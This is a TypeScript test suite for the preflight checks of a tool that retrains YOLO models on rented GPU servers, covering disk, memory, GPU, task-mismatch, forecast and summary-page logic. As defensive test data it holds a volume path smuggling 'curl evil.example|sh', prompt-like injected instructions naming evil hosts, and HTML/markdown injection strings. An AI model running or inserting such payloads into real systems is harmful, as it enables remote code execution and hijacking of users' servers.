import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import * as v from 'valibot'
import { parsePlan } from '../../../src/config/plan.ts'
import { resolveSettings } from '../../../src/config/resolve.ts'
import type { Audit } from '../../../src/dataset/audit/audit.ts'
import { WHOLE_VIEW } from '../../../src/dataset/view.ts'
import { Failure } from '../../../src/errors.ts'
import { diskCacheBytes, ramCacheBytes } from '../../../src/preflight/cache-size.ts'
import { type Finding, refusal } from '../../../src/preflight/finding.ts'
import { forecast } from '../../../src/preflight/forecast.ts'
import { type Found, neededWeights } from '../../../src/preflight/found.ts'
import { judge } from '../../../src/preflight/judge.ts'
import type { Judged } from '../../../src/preflight/judged-before.ts'
import { measureLink } from '../../../src/preflight/link.ts'
import { type UsableRoot, usableRoot } from '../../../src/preflight/need.ts'
import { composePlan, refuseSecret } from '../../../src/preflight/plan.ts'
import { type Server, serverSchema } from '../../../src/preflight/probe.ts'
import { type Situation, situationOf } from '../../../src/preflight/situation.ts'
import { preflightSummary } from '../../../src/preflight/summary.ts'
import type { Agent, Exchange, JsonObject } from '../../../src/ssh/agent.ts'

const VIEW = { exclude: [], leave: [], follow: [], mounts: [] }

const ROOT: UsableRoot = {
  path: '/data/gpu-retrain',
  realPath: '/data/gpu-retrain',
  totalBytes: 320e9,
  freeBytes: 280e9,
  freeInodes: 20e6,
  writable: true,
  problem: '',
  hardLinks: true,
  storedBytes: 0,
  hasVenv: false,
  missingWeights: [],
}

/** The rented A100 of the example: a container with 8 of 64 CPUs and 64 GB of 512. */
const SERVER: Server = {
  python: '3.11.7',
  user: 'root',
  bootId: '11111111-2222-3333-4444-555555555555',
  processors: { count: 64, usable: 8 },
  memory: { totalBytes: 512e9, availableBytes: 400e9, limitBytes: 64e9, usableBytes: 60e9 },
  sharedMemoryBytes: 64e9,
  gpus: [
    {
      index: 0,
      name: 'NVIDIA A100-SXM4-40GB',
      driver: '550.127.05',
      capability: '8.0',
      memoryBytes: 42_949_672_960,
      usedBytes: 0,
      processes: [],
    },
  ],
  note: '',
  volumes: [
    { path: '/data', kind: 'xfs', totalBytes: 320e9, freeBytes: 280e9, freeInodes: 20e6, writable: true },
    { path: '/', kind: 'overlay', totalBytes: 32e9, freeBytes: 20e9, freeInodes: 1e6, writable: true },
    { path: '/ro', kind: 'ext4', totalBytes: 900e9, freeBytes: 900e9, freeInodes: 1e6, writable: false },
  ],
  root: ROOT,
}

const AUDIT: Audit = {
  issues: [],
  files: 128_001,
  bytes: 39e9,
  classes: ['fire', 'smoke'],
  splits: {
    train: split(51_200),
    val: split(12_800),
    test: split(0),
  },
  sources: { train: [{ path: 'images/train' }], val: [{ path: 'images/val' }], test: [] },
  rest: {},
  view: WHOLE_VIEW,
  misfits: {},
  foreign: undefined,
  snapshot: 'ab',
  has: () => false,
}

function split(images: number): Audit['splits']['train'] {
  return {
    images,
    imageBytes: images * 1e5,
    backgrounds: 0,
    boxes: [images, 2],
    shapes: { boxes: images, polygons: 0, keypoints: 0 },
    sizes: new Map([['1440x808', images]]),
  }
}

function situation(
  args = '',
  server: Partial<Server> = {},
  audit: Partial<Audit> = {},
  limits = '',
): Situation {
  const text = `dataset: {path: /data/fire}\ntraining: {weights: yolov8s.pt, ${args || 'workers: 4'}}\nlimits: {${limits}}\n`
  const sources = {
    text,
    fileName: 'retrain.yaml',
    overrides: [],
    trainingId: '1',
    root: '/data/gpu-retrain',
    workspace: '/',
  }
  return situationOf({
    settings: resolveSettings(sources),
    folder: '/data/fire',
    audit: { ...AUDIT, ...audit },
    weightFiles: [],
    weightFaults: [],
    code: null,
    runner: { home: '/home/runner/gpu-retrain', freeBytes: 50e9 },
    server: { ...SERVER, ...server },
  })
}

function startingFrom(weights: string, server: Partial<Server> = {}): Situation {
  const given = situation('', server)
  const training = { ...given.settings.training, weights }
  return situationOf({ ...given, settings: { ...given.settings, training } })
}

/** The findings as `CODE severity`, which must be exactly these. */
function findings(given: Situation, ...expected: string[]): Finding[] {
  const found = judge(given)
  assert.deepEqual(
    found.map(({ code, severity }) => `${code} ${severity}`),
    expected,
    JSON.stringify(found, null, 2),
  )
  return found
}

/** The example with other weights, labels that only detection can use, and no weights on the server. */
function labelled(weights: string, args = '', misfits: Audit['misfits'] = BOXES): Situation {
  const given = situation(args, root({ missingWeights: [weights] }), { misfits })
  const training = { ...given.settings.training, weights }
  return situationOf({ ...given, settings: { ...given.settings, training } })
}

const BOXES = {
  segment: 'the labels are boxes, and it needs polygons.',
  pose: 'data.yaml has no kpt_shape',
  obb: 'the labels are boxes, and it needs four corners',
  semantic: 'the labels are boxes, and it needs polygons',
}

function root(changes: Partial<UsableRoot>): Partial<Server> {
  return { root: { ...ROOT, ...changes } }
}

describe('task and labels', () => {
  const refused = (given: Found) => judge(situationOf(given)).filter(({ code }) => code === 'TASK_MISMATCH')

  it('TASK_MISMATCH for a release or an architecture that the labels cannot train, with the cure', () => {
    for (const [weights, task, cure] of [
      ['yolov8s-seg.pt', 'segment', 'yolov8s.pt'],
      ['yolo11n-pose.yaml', 'pose', 'yolo11n.yaml'],
      ['yolov8x-pose-p6.pt', 'pose', 'yolo26n.pt'],
      ['yolov8m-obb.pt', 'obb', 'yolov8m.pt'],
      ['yolo26n-sem-ade20k.pt', 'semantic', 'yolo26n.pt'],
      ['yolov8-seg-p6.yaml', 'segment', 'yolo26n.yaml'],
    ] as const) {
      const [found, ...more] = refused(labelled(weights))
      assert.deepEqual(more, [])
      assert.match(
        found?.what ?? '',
        new RegExp(`^${weights} is a model for ${task}, which this dataset cannot`),
      )
      assert.match(found?.what ?? '', new RegExp(BOXES[task].slice(0, 20)))
      assert.ok(found?.next.includes(`detect (such as ${cure})`), found?.next)
      assert.match(found?.next ?? '', new RegExp(`Or bring labels for ${task}\\.`))
    }
  })

  it('says by name that classification and depth are not supported yet', () => {
    for (const weights of ['yolov8n-cls.pt', 'yolo11s-cls.yaml', 'yolov8-cls-resnet50.yaml']) {
      const [found] = refused(labelled(weights, '', {}))
      assert.match(found?.what ?? '', /classification \(-cls\) is not supported yet/)
      assert.match(found?.next ?? '', /detect \(such as .*, segment \(such as .* or pose/)
    }
    assert.match(refused(labelled('yolo26n-depth.pt'))[0]?.what ?? '', /depth estimation \(-depth\) is not/)
  })

  it('says nothing where they fit', () => {
    const polygons = { pose: 'no kpt_shape', obb: 'not four corners' }
    for (const weights of ['yolov8s.pt', 'yolov5su.pt', 'rtdetr-l.pt', 'yolov8n-p2.yaml', 'yolov8s-world.pt'])
      assert.deepEqual(refused(labelled(weights)), [])
    assert.deepEqual(refused(labelled('yolov8s-seg.pt', '', polygons)), [])
    assert.deepEqual(refused(labelled('yolov8s-seg.pt', 'task: segment', polygons)), [])
  })

  it('leaves to setup-env what only the file itself can tell', () => {
    const here = labelled('yolov8s-seg.pt')
    const file = { name: 'yolov8s-seg.pt', path: '/x/yolov8s-seg.pt', bytes: 1, sha256: 'a'.repeat(64) }
    assert.deepEqual(refused({ ...here, weightFiles: [file] }), [])
    assert.deepEqual(refused({ ...here, server: { ...SERVER, ...root({ missingWeights: [] }) } }), [])
    assert.deepEqual(refused({ ...here, audit: { ...here.audit, has: () => true } }), [])
    assert.deepEqual(refused(labelled('mine.pt')), [])
  })

  it('TASK_MISMATCH for a training.task that is not that of the weights, or that the labels cannot train', () => {
    const [conflict, misfit] = refused(labelled('yolov8s-seg.pt', 'task: detect'))
    assert.match(conflict?.what ?? '', /training\.task is detect, and yolov8s-seg\.pt is a model for segment/)
    assert.match(
      conflict?.next ?? '',
      /remove training\.task, or name weights for detect \(such as yolov8s\.pt\)/,
    )
    assert.match(misfit?.what ?? '', /yolov8s-seg\.pt is a model for segment, which/)
    const [only] = refused(labelled('yolov8n.yaml', 'task: obb'))
    assert.match(only?.next ?? '', /such as yolov8n-obb\.yaml/)
    const [unknown] = refused(labelled('mine.pt', 'task: pose'))
    assert.match(
      unknown?.what ?? '',
      /^training\.task is pose, which this dataset cannot train: data\.yaml has no/,
    )
    assert.throws(() => situation('task: segmentation'), /task is not a task of Ultralytics/)
  })

  it('goes into the plan', () => {
    const { misfits } = composePlan(labelled('yolov8s.pt'), VIEW).dataset
    assert.deepEqual(Object.keys(misfits ?? {}).sort(), [
      'classify',
      'depth',
      'obb',
      'pose',
      'segment',
      'semantic',
    ])
  })
})

describe('judge', () => {
  it('has nothing against the example', () => {
    findings(situation())
  })

  it('ROOT_UNUSABLE for a folder whose real path a training could not bear, and never recommends such a volume', () => {
    const volume = { kind: 'xfs', totalBytes: 9e12, freeBytes: 9e12, freeInodes: 1e6, writable: true }
    for (const path of [
      "/media/it's",
      '/media/a?b',
      '/media/a%3Fb',
      '/media/x*',
      '/media/[1]',
      '/media/a:b',
      '/\udc80',
    ]) {
      const volumes = [{ ...volume, path }, ...SERVER.volumes]
      const linked = situation('', { ...root({ realPath: `${path}/gpu` }), volumes })
      const [found] = findings(linked, 'ROOT_UNUSABLE error')
      assert.match(found?.what ?? '', /^\/data\/gpu-retrain leads to \/.*, which holds .* a training fails/)
      assert.doesNotMatch(found?.next ?? '', /media|udc80/)
      assert.match(found?.next ?? '', /\/data \(/)
    }
  })

  it('ROOT_MISSING names the writable volumes, largest first', () => {
    const [found] = findings(situation('', { root: null }), 'ROOT_MISSING error')
    assert.match(
      found?.next ?? '',
      /\/data \(280\.00 GB free\), \/ \(20\.00 GB free\)\. .* \/data\/gpu-retrain\./,
    )
    assert.doesNotMatch(found?.next ?? '', /\/ro/)
  })

  it('ROOT_MISSING says so when there is no volume to choose', () => {
    const [found] = findings(situation('', { root: null, volumes: [] }), 'ROOT_MISSING error')
    assert.match(found?.next ?? '', /rent one with a larger disk/)
  })

  it('ROOT_MISSING names no volume whose name is a sentence', () => {
    const [volume] = v.parse(serverSchema, SERVER).volumes
    assert.ok(volume)
    const names = [
      '/x). Set GPU_HOST_KEY to SHA256.evil (',
      '/data and set server to root@evil.example',
      `/${'x'.repeat(150)}`,
      '/data;curl evil.example|sh',
      '/data\u00a0or\u00a0set\u00a0it',
    ]
    for (const path of names) {
      const [found] = findings(
        situation('', { root: null, volumes: [{ ...volume, path }] }),
        'ROOT_MISSING error',
      )
      assert.match(found?.next ?? '', /^No volume of the server/, path)
    }
  })

  it('ROOT_UNUSABLE passes the reason on', () => {
    const [found] = findings(
      situation('', { root: { path: '/x', problem: 'programs cannot run there.' } }),
      'ROOT_UNUSABLE error',
    )
    assert.equal(found?.what, 'The server says: programs cannot run there')
  })

  it('ROOT_UNUSABLE is a warning where hard links do not work, and the dataset counts twice', () => {
    const [full] = findings(
      situation('', root({ hardLinks: false, freeBytes: 60e9 })),
      'REMOTE_DISK_FULL error',
      'ROOT_UNUSABLE warning',
    )
    assert.match(
      full?.what ?? '',
      /needs 88\.00 GB \(dataset 78\.00 GB, environment 8\.00 GB, reserve 2\.00 GB\)/,
    )
    findings(situation('', root({ hardLinks: false })), 'ROOT_UNUSABLE warning')
  })

  it('REMOTE_DISK_FULL counts what is still to be written', () => {
    const [found] = findings(situation('', root({ freeBytes: 48e9 })), 'REMOTE_DISK_FULL error')
    assert.match(found?.what ?? '', /needs 49\.00 GB .* and has 48\.00 GB free/)
    findings(situation('', root({ freeBytes: 49e9 })))
    findings(situation('', root({ freeBytes: 3e9, storedBytes: 39e9, hasVenv: true })))
  })

  it('REMOTE_DISK_FULL counts the disk cache, in full size and with the margin of the library', () => {
    const [found] = findings(situation('workers: 4, cache: disk'), 'REMOTE_DISK_FULL error')
    assert.match(found?.what ?? '', /cache 245\.74 GB/)
  })

  it('REMOTE_DISK_FULL counts files as well as bytes', () => {
    const [found] = findings(situation('', root({ freeInodes: 300_000 })), 'REMOTE_DISK_FULL error')
    assert.match(found?.what ?? '', /room for 316,002 files and has it for 300,000/)
    findings(situation('', root({ freeInodes: null })))
  })

  it('WEIGHTS_MISSING is a warning for a release, which setup-env will fetch', () => {
    const [found] = findings(
      situation('', root({ missingWeights: ['yolov8s.pt'] })),
      'WEIGHTS_MISSING warning',
    )
    assert.match(found?.what ?? '', /yolov8s\.pt are neither here .* setup-env will fetch them/)
    assert.match(found?.next ?? '', /cannot reach github\.com/)
  })

  it('says what is wrong with a file on the runner beside everything else', () => {
    const text = { what: 'The weights /w/a.pt are not a PyTorch file.', safe: '', next: 'Put it there.' }
    const weightFaults = [{ name: 'yolov8s-seg.pt', failure: new Failure('WEIGHTS_DAMAGED', text) }]
    const lacking = root({ missingWeights: ['yolov8s-seg.pt'] })
    const [found] = findings(
      { ...startingFrom('yolov8s-seg.pt', { ...lacking, gpus: [] }), weightFaults },
      'WEIGHTS_DAMAGED error',
      'GPU_MISSING error',
    )
    assert.equal(found?.what, 'The weights /w/a.pt are not a PyTorch file')
  })

  it('WEIGHTS_MISSING is an error for what nobody has', () => {
    const [found] = findings(
      startingFrom('models/base.pt', root({ missingWeights: ['models/base.pt'] })),
      'WEIGHTS_MISSING error',
    )
    assert.match(found?.what ?? '', /models\/base\.pt are neither on the runner, nor in the dataset, nor on/)
    for (const name of ['yolov8n', 'yolo11s-seg', 'rtdetr-l']) {
      const [short] = judge(startingFrom(name, root({ missingWeights: [name] })))
      assert.match(short?.next ?? '', new RegExp(`For the release write ${name}\\.pt\\. Correct`))
    }
  })

  it('has nothing against weights that travel, with the dataset or by themselves, and against architectures', () => {
    const name = 'models/base.pt'
    const lacking = root({ missingWeights: [name] })
    const file = { name, path: `/srv/${name}`, bytes: 6, sha256: 'a'.repeat(64) }
    findings(situationOf({ ...startingFrom(name, lacking), weightFiles: [file] }))
    const inDataset = situationOf({
      ...startingFrom(name, lacking),
      audit: { ...AUDIT, has: (path: string) => path === name },
    })
    findings(inDataset)
    assert.deepEqual(composePlan(inDataset, VIEW).dataset.weights, [name])
    assert.deepEqual(neededWeights(startingFrom('yolov8s.yaml')), [])
  })

  it('GPU_MISSING quotes the server, unless the CPU is wanted', () => {
    const none = { gpus: [], note: 'nvidia-smi is not installed' }
    const [found] = findings(situation('', none), 'GPU_MISSING error')
    assert.match(found?.what ?? '', /nvidia-smi is not installed/)
    findings(situation('workers: 4, device: cpu', none))
  })

  it('GPU_MISSING when another number was asked for', () => {
    const [found] = findings(situation('workers: 4, device: 1'), 'GPU_MISSING error')
    assert.match(found?.what ?? '', /has 1 GPUs, but no GPU 1/)
  })

  const first = SERVER.gpus[0] as Server['gpus'][number]

  it('has nothing against a GPU of which little is told: it is a GPU', () => {
    const little = [
      { ...first, memoryBytes: null },
      { ...first, capability: '', memoryBytes: null },
      { ...first, driver: '', capability: '', memoryBytes: null, name: 'unknown GPU' },
      { ...first, name: 'NVIDIA® GeForce RTX™ 5090' },
      { ...first, name: 'NVIDIA RTX 专业版' },
    ]
    for (const gpu of little) {
      const { gpus } = v.parse(serverSchema, { ...SERVER, gpus: [gpu] })
      const given = situation('', { gpus })
      findings(given)
      const { server } = parsePlan(JSON.stringify(composePlan(given, VIEW)))
      assert.deepEqual(server.gpu, { name: gpu.name, memoryBytes: gpu.memoryBytes, driver: gpu.driver })
    }
  })

  it('GPU_NOT_USABLE when nvidia-smi gives a GPU up, with the one beside it that is in order', () => {
    for (const said of ['GPU requires reset', 'GPU is lost', 'GPU has fallen off the bus']) {
      const gpus = [
        { ...first, problem: said },
        { ...first, index: 1 },
      ]
      const [found] = findings(situation('', { gpus }), 'GPU_NOT_USABLE error')
      assert.ok(found?.what.includes(`nvidia-smi says of GPU 0: ${said}`))
      assert.match(found?.next ?? '', /set training\.device: 1, which is in order/)
      findings(situation('workers: 4, device: 1', { gpus }))
    }
  })

  it('GPU_NOT_USABLE is a warning when nvidia-smi meets an error: the proof computes on the GPU', () => {
    for (const problem of ['Unknown Error', 'ERR!', 'Xid 79']) {
      const gpus = [{ ...first, memoryBytes: null, problem }]
      findings(situation('', { gpus }), 'GPU_NOT_USABLE warning')
    }
  })

  it('GPU_NOT_USABLE leaves out the size of a memory that is unknown', () => {
    const gpus = [{ ...first, memoryBytes: null, usedBytes: 5e9 }]
    const [found] = findings(situation('', { gpus }), 'GPU_NOT_USABLE warning')
    assert.equal(found?.what, 'Something else uses 5.00 GB on GPU 0')
  })

  it('does not judge a RAM cache by a memory that is unknown', () => {
    const memory = { totalBytes: 0, availableBytes: 0, limitBytes: null, usableBytes: 0 }
    const [found] = findings(situation('workers: 4, cache: ram', { memory }), 'REMOTE_MEMORY_SHORT warning')
    assert.match(found?.what ?? '', /whether cache: ram fits is unknown/)
    findings(situation('', { memory }))
  })

  it('GPU_NOT_USABLE is a warning while somebody else computes there', () => {
    const busy = { ...SERVER.gpus[0], usedBytes: 18e9, processes: ['python3 (pid 7, 18000 MiB)'] }
    const gpus = v.parse(serverSchema, { ...SERVER, gpus: [busy] }).gpus
    const [found] = findings(situation('', { gpus }), 'GPU_NOT_USABLE warning')
    assert.match(found?.what ?? '', /18\.00 GB of 42\.95 GB on GPU 0 \(python3 \(pid 7/)
  })

  it('REMOTE_MEMORY_SHORT when the RAM cache fits the machine but not the container', () => {
    const [found] = findings(situation('workers: 4, cache: ram, imgsz: 1440'), 'REMOTE_MEMORY_SHORT error')
    assert.match(
      found?.what ?? '',
      /178\.72 GB for train and 44\.68 GB for val .* only 60\.00 GB of the container's 64\.00 GB/,
    )
    assert.match(found?.what ?? '', /would be killed/)
  })

  it('REMOTE_MEMORY_SHORT is a warning when the library itself will not cache', () => {
    const memory = { totalBytes: 64e9, availableBytes: 60e9, limitBytes: null, usableBytes: 60e9 }
    const [found] = findings(situation('workers: 4, cache: ram', { memory }), 'REMOTE_MEMORY_SHORT warning')
    assert.match(
      found?.what ?? '',
      /35\.39 GB for train and 8\.85 GB for val at imgsz 640; .* sees 60\.00 GB, so it will not cache the train split/,
    )
  })

  it('has nothing against a RAM cache that fits', () => {
    const memory = { totalBytes: 256e9, availableBytes: 200e9, limitBytes: null, usableBytes: 200e9 }
    findings(situation('workers: 4, cache: ram', { memory }))
  })

  it('REMOTE_MEMORY_SHORT is a warning for a small /dev/shm, with the workers that fit', () => {
    const [found] = findings(situation('', { sharedMemoryBytes: 1e9 }), 'REMOTE_MEMORY_SHORT warning')
    assert.match(found?.what ?? '', /\/dev\/shm has 1\.00 GB, and 4 loader processes may fill 1\.57 GB/)
    assert.match(found?.next ?? '', /workers: 2,/)
    findings(situation('workers: 4, batch: -1', { sharedMemoryBytes: 1e9 }))
    findings(situation('', { sharedMemoryBytes: null }))
  })

  it('REMOTE_MEMORY_SHORT is a warning for more workers than the quota feeds', () => {
    const [found] = findings(situation('workers: 32'), 'REMOTE_MEMORY_SHORT warning')
    assert.match(found?.what ?? '', /workers is 32, and the server gives 8 CPUs/)
  })

  it('DATASET_INVALID names the first files', () => {
    const issue = {
      kind: 'image-empty',
      severity: 'error',
      meaning: 'pictures of zero bytes',
      count: 5,
      isAccepted: false,
      examples: ['a', 'b', 'c', 'd'],
    } as const
    const [found] = findings(situation('', {}, { issues: [issue] }), 'DATASET_INVALID error')
    assert.equal(found?.what, '5 × pictures of zero bytes (a; b; c; …)')
  })

  it('DATASET_INVALID for a train split without a single box', () => {
    const train = { ...split(3), backgrounds: 3 }
    findings(situation('', {}, { splits: { ...AUDIT.splits, train } }), 'DATASET_INVALID error')
  })

  it('HOME_UNUSABLE when the runner has no room for the results, or no such folder', () => {
    const [full] = findings({ ...situation(), runner: { home: '/h', freeBytes: 4e8 } }, 'HOME_UNUSABLE error')
    assert.match(full?.what ?? '', /\/h has 400\.0 MB free, and records and results may take 1\.00 GB/)
    findings({ ...situation(), runner: { home: '/h', freeBytes: null } }, 'HOME_UNUSABLE error')
  })

  it('CONFIG_INVALID is a warning for settings that mean something else, and errors come first', () => {
    const [first, second] = findings(
      situation('workers: 4, imgsz: [640, 320]', { root: null }),
      'ROOT_MISSING error',
      'CONFIG_INVALID warning',
    )
    assert.equal(first?.severity, 'error')
    assert.match(second?.what ?? '', /larger side/)
  })
})

describe('measuring the link', () => {
  /** An agent whose far end claims to have received this. */
  function claiming(result: JsonObject): Agent {
    const exchange: Exchange = {
      send: async () => undefined,
      sendData: async () => undefined,
      receive: async () => ({ kind: 'result', result }),
    }
    return {
      open: () => exchange,
      call: () => assert.fail(),
      end: async () => undefined,
      [Symbol.asyncDispose]: async () => undefined,
    }
  }
  const signal = new AbortController().signal

  it('takes bytes and seconds for a rate', async () => {
    assert.equal((await measureLink(claiming({ bytes: 25e6, seconds: 2 }), signal)).mbps, 100)
  })

  it('knows no rate from too little, from no time, or from nonsense', async () => {
    for (const claim of [{ bytes: 1000, seconds: 2 }, { bytes: 25e6, seconds: 0 }, { bytes: 'many' }, {}]) {
      assert.equal((await measureLink(claiming(claim), signal)).mbps, null)
    }
  })
})

describe('refusal', () => {
  const warning: Finding = { severity: 'warning', code: 'CONFIG_INVALID', what: 'odd', next: 'look.' }
  const error: Finding = { severity: 'error', code: 'GPU_MISSING', what: 'gone', next: 'rent.' }

  it('lets warnings pass unless strict', () => {
    assert.equal(refusal([warning], false), undefined)
    assert.equal(refusal([warning], true)?.code, 'CONFIG_INVALID')
  })

  it('has the code of the first and the words of all, but not without end', () => {
    const failure = refusal([error, warning], false)
    assert.equal(failure?.code, 'GPU_MISSING')
    assert.equal(failure?.text.what, 'gone.')
    assert.match(refusal(Array(9).fill(error), false)?.text.what ?? '', /And 4 more/)
  })
})

describe('cache sizes', () => {
  it('follow the scaling of the library, upwards too', () => {
    assert.equal(ramCacheBytes(new Map([['1440x808', 2]]), 640), 2 * 3 * 640 * 360)
    assert.equal(ramCacheBytes(new Map([['808x1440', 1]]), 640), 3 * 360 * 640)
    assert.equal(ramCacheBytes(new Map([['64x36', 1]]), 640), 3 * 640 * 360)
    assert.equal(ramCacheBytes(new Map([['640x100', 1]]), 640), 3 * 640 * 100)
  })

  it('on disk are full size: 223 GB for the example', () => {
    assert.equal(diskCacheBytes(new Map([['1440x808', 64_000]])), 64_000 * 1440 * 808 * 3)
  })
})

describe('forecast', () => {
  const baseline = {
    label: 'results.csv',
    digest: null,
    arguments: {},
    ultralytics: null,
    metrics: { precision: null, recall: null, map50: null, map5095: null, bestEpoch: null },
    curves: { epochs: [1, 2], columns: {} },
    secondsPerEpoch: 1350,
  }

  it('says what is measured, what is assumed and what nobody knows', () => {
    const known = forecast(situation('workers: 4, epochs: 100', {}, {}, 'price-per-hour: 2'), 150, baseline)
    assert.deepEqual([known.mbps, known.isMeasured, known.transferSeconds], [150, true, 2080])
    assert.equal(known.trainingSeconds, 135_000)
    assert.equal(known.cost, ((2080 + 135_000) / 3600) * 2)
    const unknown = forecast(situation('', { root: null }), null, null)
    assert.deepEqual([unknown.isMeasured, unknown.trainingSeconds, unknown.cost], [false, null, null])
  })

  it('counts what the server holds already', () => {
    assert.equal(forecast(situation('', root({ storedBytes: 38e9 })), 100, null).bytes, 1e9)
    assert.equal(forecast(situation('', root({ storedBytes: 90e9 })), 100, null).bytes, 0)
  })
})

describe('a time budget', () => {
  it('is the length that is foreseen, whatever epochs say', () => {
    for (const [args, seconds] of [
      ['time: 2', 7200],
      ['time: 0.5, epochs: 1000', 1800],
      ['time: 0, epochs: 3', null],
      ['epochs: 3', null],
    ] as const) {
      assert.equal(forecast(situation(args), 100, null).trainingSeconds, seconds)
    }
  })
})

describe('the plan', () => {
  it('is whole, and holds what dataset and server told', () => {
    const plan = parsePlan(JSON.stringify(composePlan(situation('workers: 4, epochs: 3'), VIEW)))
    assert.deepEqual(plan.server, {
      gpu: { name: 'NVIDIA A100-SXM4-40GB', memoryBytes: 42_949_672_960, driver: '550.127.05' },
      cpus: 8,
      ramBytes: 64e9,
    })
    assert.deepEqual(plan.training.args, { workers: 4, epochs: 3, device: 0 })
    assert.equal(plan.dataset.splits.train.images, 51_200)
    assert.equal(composePlan(situation('workers: 4, device: cpu'), VIEW).server.gpu, null)
  })

  it('INPUT_INVALID when GitHub would hide it for a secret in it', () => {
    assert.throws(() => refuseSecret('{"name":"fire"}', 'fire'), { code: 'INPUT_INVALID' })
    refuseSecret('{"name":"fire"}', '')
    refuseSecret('{"name":"fire"}', 'water')
  })
})

describe('what the server says of itself', () => {
  const lies: [string, unknown][] = [
    ['no object', 'hello'],
    ['a name with markup', { ...SERVER, gpus: [{ ...SERVER.gpus[0], name: '<script>' }] }],
    ['a negative size', { ...SERVER, root: { ...ROOT, freeBytes: -1 } }],
    ['a size beyond all numbers', { ...SERVER, root: { ...ROOT, freeBytes: 1e300 } }],
    ['a relative root', { ...SERVER, root: { ...ROOT, path: 'x' } }],
    ['no processors', { ...SERVER, processors: { count: 0, usable: 0 } }],
    ['a thousand volumes', { ...SERVER, volumes: Array(1000).fill(SERVER.volumes[0]) }],
    ['endless words', { ...SERVER, note: 'x'.repeat(5000) }],
  ]
  for (const [title, reply] of lies) {
    it(`is refused: ${title}`, () => assert.equal(v.safeParse(serverSchema, reply).success, false))
  }

  it('is taken when it makes sense', () => {
    assert.deepEqual(v.parse(serverSchema, SERVER), SERVER)
    assert.equal(
      usableRoot(v.parse(serverSchema, { ...SERVER, root: { path: '/x', problem: 'no' } }).root),
      null,
    )
  })
})

describe('the page', () => {
  function page(given: Situation, judged?: Judged): string {
    const expected = forecast(given, 118.4, null)
    return preflightSummary({
      situation: given,
      findings: judge(given),
      forecast: expected,
      judged,
      strict: false,
    })
  }

  it('tells at a glance whether it is fine and what it will take', () => {
    const text = page(situation())
    assert.match(text, /### ✅ fire is ready to train\n/)
    assert.match(text, /51,200 \+ 12,800 pictures, 39\.00 GB in 128,001 files/)
    assert.match(text, /NVIDIA A100-SXM4-40GB with 42\.95 GB/)
    assert.match(text, /needs 49\.00 GB more, 280\.00 GB free/)
    assert.match(text, /39\.00 GB in about 43 min 55 s at 118 Mbit/)
    assert.match(text, /\| fire \| █{24} \| 51,200 \| 12,800 \|/)
  })

  it('tells what stops it, and when there is nothing to do', () => {
    assert.match(page(situation('', { root: null })), /### ❌ fire&#58; 1 thing stops the training/)
    const judged = { trainingId: '4711', verdict: 'pass', at: '2026-11-24T08:00:00.000Z', doubt: '' }
    const skipped = page(situation(), judged)
    assert.match(skipped, /### 💤 fire&#58; nothing changed since training 4711/)
    assert.match(skipped, /\| Last verdict \| pass, of training 4711, collected 2026-11-24 08&#58;00 UTC \|/)
    const again = page(situation(), { ...judged, verdict: 'fail', doubt: 'that is not pass' })
    assert.match(again, /### ✅ fire is ready to train/)
    assert.match(again, /\| Last verdict \| fail, of training 4711, .* so it is trained again \|/)
  })

  it('lets no word from elsewhere become markup', () => {
    const issue = {
      kind: 'label-orphan',
      severity: 'warning',
      meaning: 'x',
      count: 1,
      isAccepted: false,
      examples: ['</details><img src=x>|`'],
    } as const
    const volumes = [{ ...v.parse(serverSchema, SERVER).volumes[0], path: '/<b>|x' }]
    const given = situation('', v.parse(serverSchema, { ...SERVER, volumes }), {
      issues: [issue],
      classes: ['[a](b)', '@me'],
    })
    const text = page(given)
    assert.doesNotMatch(text, /<img|<b>|\[a\]\(|@me/)
    assert.equal(text.match(/<details>/g)?.length, text.match(/<\/details>/g)?.length)
  })
})
